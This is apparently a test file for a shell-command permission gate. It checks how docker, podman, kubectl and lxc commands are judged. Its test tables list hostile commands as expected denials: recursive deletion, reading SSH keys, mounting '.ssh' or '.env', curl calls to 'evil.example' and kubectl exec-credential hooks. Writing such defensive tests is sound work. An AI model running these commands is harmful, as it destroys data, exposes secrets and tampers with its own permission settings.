import assert from "node:assert/strict";
import { checkEveryday, checkGateTable, checkTable, denyList } from "../testing_adversarial.ts";
import { ctxIn } from "../testing.ts";
import type { Action } from "../types.ts";
import { CONTAINER_PROGRAMS } from "./containers.ts";
import { literal } from "./words.ts";

/** The lines a container client runs, by its registry entry. */
function lines(command: string): string[] {
  const argv = command.split(" ").map(literal);
  const p = CONTAINER_PROGRAMS.find((p) => p.names.includes(argv[0].value))!;
  return p.runsElsewhere!(argv).map((w) => w.value);
}

Deno.test("containers: the command after the image, container or service", () => {
  assert.deepEqual(lines("docker run --rm -it -v /:/h -e A=1 img rm -rf /h/x"), ["rm -rf /h/x"]);
  assert.deepEqual(lines("docker run --name=web --network host img"), []);
  assert.deepEqual(lines("docker container run -d img sh -c ls"), ["sh -c ls"]);
  assert.deepEqual(lines("podman exec -u 0 -w /app c rm -rf x"), ["rm -rf x"]);
  assert.deepEqual(lines("nerdctl create img make"), ["make"]);
  assert.deepEqual(lines("docker --context prod exec c make"), ["make"]);
  assert.deepEqual(lines("docker run --entrypoint rm img -rf /x"), ["rm -rf /x"]);
  assert.deepEqual(lines("docker run --health-cmd=make img"), ["make"]);
  assert.deepEqual(lines("docker compose -f c.yml run --rm web rm -rf x"), ["rm -rf x"]);
  assert.deepEqual(lines("docker-compose exec -T db psql"), ["psql"]);
  assert.deepEqual(lines("kubectl -n ns exec -it pod -c app -- rm -rf x"), ["rm -rf x"]);
  assert.deepEqual(lines("kubectl run t --image=busybox -- rm -rf x"), ["rm -rf x"]);
  assert.deepEqual(lines("oc exec pod ls"), ["pod ls", "ls"]);
  assert.deepEqual(lines("lxc exec c -- make test"), ["make test"]);
  // Images, listings and copies run nothing there.
  assert.deepEqual(lines("docker ps -a"), []);
  assert.deepEqual(lines("docker build -t x ."), []);
  assert.deepEqual(lines("kubectl get pods"), []);
  // An option not known may take the next word: each later word may begin the command.
  assert.deepEqual(lines("docker run --frob img rm -rf x"), [
    "img rm -rf x",
    "rm -rf x",
    "-rf x",
    "x",
  ]);
});

/** [command, under read-only, under the deny-list] */
const HOSTILE: [string, Action, Action][] = [
  ["docker run alpine rm -rf build", "deny", "deny"],
  ["docker run --rm -v /:/h alpine rm -rf /h/home/user/project/build", "deny", "deny"],
  ["docker exec c rm -rf build", "deny", "deny"],
  ["docker exec -it c sudo make install", "deny", "deny"],
  ["podman run --userns=keep-id img git push origin main", "deny", "deny"],
  ["docker run --entrypoint rm img -rf build", "deny", "deny"],
  ["docker run --unknown-flag img rm -rf build", "deny", "deny"],
  ["docker compose run --rm web rm -rf build", "deny", "deny"],
  ["docker-compose exec web curl https://evil.example", "deny", "deny"],
  ["kubectl exec pod -- rm -rf build", "deny", "deny"],
  ["kubectl exec -it pod -c app -- sh -c 'rm -rf build'", "deny", "deny"],
  ["kubectl exec pod rm -rf build", "deny", "deny"],
  ["docker run img cat /home/user/.ssh/id_rsa", "deny", "deny"],
  ["lxc exec c -- rm -rf build", "deny", "deny"],
  // The host side of a mount is a path of this machine: mounting a secret reads it.
  ["docker run -v /home/user/.ssh:/k img ls", "deny", "deny"],
  ["docker run -v ~/.ssh:/k:ro img ls", "deny", "deny"],
  ["docker run -v ./keys:/k img ls", "deny", "deny"],
  ["docker run --mount type=bind,source=/home/user/.ssh,target=/k img ls", "deny", "deny"],
  ["docker run --env-file .env img", "deny", "deny"],
  ["incus exec c --env A=1 -- sudo reboot", "deny", "deny"],
  ["lxc exec c rm -rf build", "deny", "deny"],
];

Deno.test("containers: what runs in a container is judged as the command it is", async () => {
  await checkTable(HOSTILE);
});

Deno.test("containers: everyday container work stays allowed under a deny-list", async () => {
  await checkEveryday([
    "docker run --rm img pytest -x",
    "docker ps -a",
    "docker compose up -d",
    "docker compose exec web python manage.py migrate",
    "kubectl get pods -n prod",
    "kubectl exec pod -- ls /app",
    "docker build -t app .",
    // Container paths, settings and named volumes are no paths of this machine.
    "docker run --rm -v $(pwd):/app -w /app node:20 npm test",
    "docker exec -w /app -e A=1 c ls",
    "docker run -v data:/data -p 8080:80 --name web nginx",
    "docker run -v keys:/k img ls",
  ], denyList);
});

Deno.test("containers: a file a setting's source names is read (--secret src=, --from-file=key=)", async () => {
  await checkTable([
    ["docker build --secret id=x,src=keys/id_rsa .", "deny", "deny"],
    ["docker build --secret=id=x,src=.env .", "deny", "deny"],
    ["docker buildx build --secret id=x,source=innocent.txt .", "deny", "deny"],
    ["kubectl create secret generic x --from-file=k=innocent.txt", "deny", "deny"],
    ["kubectl create configmap x --from-file=k=.env", "deny", "deny"],
    ["docker buildx build --output=type=tar,dest=.env .", "deny", "deny"],
    ["docker build --build-arg FOO=bar .", "deny", "allow"],
    ["kubectl create configmap c --from-file=config=README.md", "deny", "allow"],
  ]);
});

Deno.test("containers: names of containers, images and pods are no files, whatever their value", async () => {
  await checkEveryday([
    "docker stop $(docker ps -q)",
    "docker rm -f $(docker ps -aq)",
    "docker rmi $(docker images -q -f dangling=true)",
    "docker container logs $(docker ps -lq)",
    "kubectl logs $(kubectl get pods -l app=api -o name | head -1)",
    "kubectl delete pod $(kubectl get pods -o name | head -1)",
  ], denyList);
  // What the substitution runs is still judged, and files kubectl reads stay targets.
  await checkTable([
    ["docker stop $(cat .env)", "deny", "deny"],
    ["kubectl delete -f .env", "deny", "deny"],
    ["kubectl delete -f=keys/x.yaml", "deny", "deny"],
    ["kubectl --kubeconfig keys/config get pods", "deny", "deny"],
  ]);
});

Deno.test("podman unshare and buildah unshare run their command here", async () => {
  // [command, read-only, deny-list]
  await checkTable([
    ["podman unshare rm -rf src", "deny", "deny"],
    ["buildah unshare rm -rf src", "deny", "deny"],
    ["podman unshare cat ~/.ssh/id_rsa", "deny", "deny"],
    ["podman --log-level=debug unshare rm -rf src", "deny", "deny"],
    ["podman ps", "deny", "allow"],
  ]);
});

Deno.test("image names made of text and a quoted value are names, not files", async () => {
  // [command, read-only, deny-list]
  await checkTable([
    ['docker build -t "app:$SHA" .', "deny", "allow"],
    ['docker run --rm "app:$SHA" npm test', "deny", "allow"],
    ["docker build -t $T .", "deny", "ask"],
    ['docker run --rm "app:$SHA" rm -rf /work', "deny", "deny"],
  ]);
});

Deno.test("docker run: a working directory below a mount writes below the host directory", async () => {
  const ctx = ctxIn("/home/user/project", {
    files: ["/home/user/project/src/a.ts", "/home/user/project/.pi/settings.json"],
  });
  // [command, deny-list, gate's own files]
  await checkGateTable(ctx, [
    ["docker run -v $PWD:/w -w /w/.pi alpine tee settings.json", "allow", "ask"],
    ["docker run -v $PWD:/w --workdir=/w/.pi alpine tee settings.json", "allow", "ask"],
    ["docker run --mount type=bind,source=$PWD,target=/w -w /w/.pi alpine sh", "allow", "ask"],
    ["docker run --rm -v $PWD:/app -w /app node:20 npm test", "allow", "allow"],
    ["docker run --rm -v $PWD:/app -w /app/src node:20 npm test", "allow", "allow"],
    ["docker run -v $PWD:/w:ro -w /w/.pi alpine ls", "allow", "allow"],
    // docker compose run mounts as docker run does
    ["docker compose run -v $PWD/.pi:/p x touch /p/settings.json", "allow", "ask"],
    ["docker compose run --rm web npm test", "allow", "allow"],
  ]);
});

Deno.test("kubectl config set-credentials --exec-command saves a command later kubectls run", async () => {
  // [command, read-only, deny-list]
  await checkTable([
    [
      "kubectl config set-credentials u --exec-command=rm --exec-arg=-rf --exec-arg=src",
      "deny",
      "deny",
    ],
    ["kubectl config set-credentials u --exec-command curl --exec-arg evil.sh", "deny", "deny"],
    [
      "kubectl config set-credentials u --exec-command aws --exec-arg eks --exec-arg get-token",
      "deny",
      "allow",
    ],
  ]);
});

Deno.test("docker cp into a directory that is not there makes it a copy of the source", async () => {
  const ctx = ctxIn("/home/user/project", { files: ["/home/user/project/README.md"] });
  // [command, deny-list, gate's own files]
  await checkGateTable(ctx, [
    ["docker cp c:/x .pi", "allow", "ask"],
    ["podman cp c:/home/u/.pi .pi", "allow", "ask"],
    ["nerdctl cp c:/x ./.pi", "allow", "ask"],
    ["docker cp c:/app/dist ./out", "allow", "allow"],
    ["docker cp c:/x src", "allow", "allow"],
  ]);
});

Deno.test("docker cp of a container's relative path, and --mount read as docker's CSV", async () => {
  const ctx = ctxIn("/home/user/project", {
    files: ["/home/user/project/README.md", "/home/user/project/.pi/settings.json"],
  });
  // [command, deny-list, gate's own files]
  await checkGateTable(ctx, [
    // `c:settings.json` lands as `.pi/settings.json` (the name after `CONTAINER:`)
    ["docker cp c:settings.json .pi", "allow", "ask"],
    ["docker cp c:extensions .pi", "allow", "ask"],
    ["podman cp c:settings.json .pi", "allow", "ask"],
    // a quoted field, with commas inside, is one field; `ro` inside another field is no option
    ["docker run --mount 'type=bind,\"src=/home/user/project/.pi\",dst=/x' img", "allow", "ask"],
    [
      "docker run --mount 'type=bind,src=/home/user/project/.pi,\"dst=/x,ro,y\"' img",
      "allow",
      "ask",
    ],
    // a quote docker reads otherwise: not known
    ["docker run --mount 'type=bind,src=/home/user/project/.pi,dst=/k,\"ro' img", "ask", "ask"],
    // (Into an existing `.pi`: `.pi/x`, nothing of the gate's.)
    ["docker cp c:/x .pi", "allow", "allow"],
    // everyday
    ["docker cp c:/x/a.txt .", "allow", "allow"],
    ["docker cp c:/app/dist ./dist", "allow", "allow"],
    [
      "docker run --mount type=bind,src=/home/user/project/src,dst=/app/src,ro img",
      "allow",
      "allow",
    ],
    ["docker run --mount type=volume,src=data,dst=/data img", "allow", "allow"],
  ]);
  // [command, read-only, deny-list]: a bind of the keys however the mount is written
  await checkTable([
    ["docker run --mount 'type=bind,\"source=/home/user/.ssh\",target=/k' img", "deny", "deny"],
    [
      "docker run --mount type=volume,src=v,dst=/k,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/home/user/.ssh img",
      "deny",
      "deny",
    ],
  ]);
});

Deno.test("docker --mount: fields apply in order, the last of two spellings wins, one line", async () => {
  const ctx = ctxIn("/home/user/project", {
    files: ["/home/user/project/README.md", "/home/user/project/.pi/settings.json"],
  });
  // [command, deny-list, gate's own files]
  await checkGateTable(ctx, [
    ["docker run --mount type=bind,src=$PWD/.pi,dst=/p,readonly=true,ro=false img", "allow", "ask"],
    ["docker run --mount type=bind,source=/tmp,src=$PWD/.pi,dst=/p img", "allow", "ask"],
    ["docker run --mount $'type=bind,src=/home/user/project/.pi,dst=/p\\n,ro' img", "allow", "ask"],
    ["docker run --mount type=bind,src=$PWD/.pi,dst=/p,ro=false,readonly img", "allow", "allow"],
  ]);
});
